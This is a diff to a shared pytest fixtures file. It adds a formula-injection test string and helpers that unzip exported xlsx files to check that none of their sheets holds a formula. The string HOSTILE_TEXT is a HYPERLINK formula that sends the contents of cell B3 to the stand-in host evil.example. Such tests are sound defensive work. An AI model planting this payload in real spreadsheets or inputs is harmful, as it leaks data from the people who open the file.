@@ -1,6 +1,9 @@
 """The shared cast of the tests: one account per role, and a small roster they are scoped to."""
 
+import io
+import re
 import time
+import zipfile
 from datetime import date
 
 import pytest
@@ -182,3 +185,20 @@ def phone_page(browser):
     page = context.new_page()
     yield page
     context.close()
+
+
+HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?"&B3,"详情")'
+
+
+def formula_cells(content: bytes) -> list[str]:
+    """The sheets of an xlsx file that hold a formula (an <f> element), to show an export wrote none."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return [
+            name
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >/]", archive.read(name))
+        ]
+
+
+def xlsx_bytes(response) -> bytes:
+    return b"".join(response.streaming_content) if response.streaming else response.content
